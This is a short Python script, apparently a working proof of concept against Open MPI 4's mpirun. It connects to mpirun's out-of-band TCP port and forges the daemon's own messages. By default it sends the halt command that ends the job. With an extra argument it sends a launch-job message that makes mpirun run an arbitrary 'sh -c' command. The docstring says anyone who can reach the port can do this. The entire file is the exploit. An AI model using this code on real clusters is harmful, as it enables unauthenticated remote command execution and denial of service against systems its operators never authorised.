"""Sends Open MPI 4's mpirun the message by which its own tools end it (ORTE_DAEMON_HALT_VM_CMD of odls_types.h), or, with
COMMAND, the one by which a rank has it start programs (ORTE_PLM_LAUNCH_JOB_CMD of plm_types.h), as anyone who reaches its
port can: halt_vm.py HOST PORT NAMESPACE [COMMAND], where NAMESPACE is a rank's PMIX_NAMESPACE."""
import socket
import struct
import sys

IDENT, USER, DAEMON_TAG, PLM_TAG, HALT_VM, LAUNCH_JOB = 1, 4, 1, 5, 19, 1
host, port, namespace = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
family = namespace & 0xFFFF0000


def head(kind, tag, size):
    """oob_tcp_hdr.h: origin and destination (job, process) in host order, then tag, number, size, kind."""
    names = struct.pack("=IIII", family ^ 0x70000, 0, family, 0)
    return names + struct.pack(">IIIB35x", tag, 0, size, kind)


def text(value):
    return struct.pack(">i", len(value) + 1) + value.encode() + b"\0"


def launch(command):
    """One process of sh -c COMMAND, a job (orte_dt_packing_fns.c) whose parent is the rank 0 of NAMESPACE."""
    launch_proxy, name_type = 0xF0, 0x1D
    job = struct.pack(">iIHiHBII", 1, 0xFFFFFFFF, 0x20, 1, launch_proxy, name_type, namespace, 0)
    job += struct.pack(">ii", 0, 1) + text("ompi") + struct.pack(">ii", 1, 0)
    job += text("/bin/sh") + struct.pack(">iii", 1, 0, 3) + text("sh") + text("-c") + text(command)
    job += struct.pack(">i", 0) + text("/tmp")
    # No more settings, and an empty map.
    job += bytes(23) + b"\1" + bytes(20) + b"\x0c" + bytes(5) + b"\xff" * 4 + bytes(4)
    return struct.pack(">iB", 1, LAUNCH_JOB) + job


tag, command = DAEMON_TAG, struct.pack(">iB", 1, HALT_VM)
if len(sys.argv) > 4:
    tag, command = PLM_TAG, launch(sys.argv[4])
with socket.create_connection((host, port), 5) as stranger:
    stranger.settimeout(10)
    hello = struct.pack(">H", 1) + b"4.0.0\0"
    stranger.sendall(head(IDENT, 0, len(hello)) + hello)
    if not stranger.recv(1024):
        sys.exit("mpirun does not answer")
    stranger.sendall(head(USER, tag, len(command)) + command)
    try:
        stranger.recv(1024)  # the end of mpirun, or what it has started
    except OSError:
        pass
